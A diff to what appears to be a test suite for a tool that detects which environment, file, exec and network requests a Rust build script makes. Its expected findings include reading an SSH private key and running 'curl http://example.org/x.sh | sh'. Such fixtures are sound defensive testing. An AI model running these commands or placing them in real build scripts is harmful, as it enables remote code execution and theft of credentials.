@@ -24,6 +24,8 @@ fn main() {
     TcpStream::connect("10.0.0.1:80");
     println!("cargo:rustc-env=HEAD={head}");
     let env = 1;
+    if rustc >= 80 {}
+    let rustc = cargo_env_var("RUSTC");
 }
 """
 
@@ -60,6 +62,7 @@ def found(proposal: Proposal) -> list[int]:
         (asked(Kind.ENV, "CHANNEL"), 6),
         (asked(Kind.READ, "$HOME/.ssh/id_ed25519"), 7),
         (asked(Kind.EXEC, "cc"), 8),
+        (asked(Kind.EXEC, "$SYSROOT/bin/rustc", chain=("rustc",)), 14),
         (asked(Kind.EXEC, "/usr/bin/cc1", chain=("cc",)), 8),
         (asked(Kind.EXEC, "sh", command="sh -c 'curl http://example.org/x.sh | sh'"), 9),
         (asked(Kind.NET, "example.org:80"), 9),
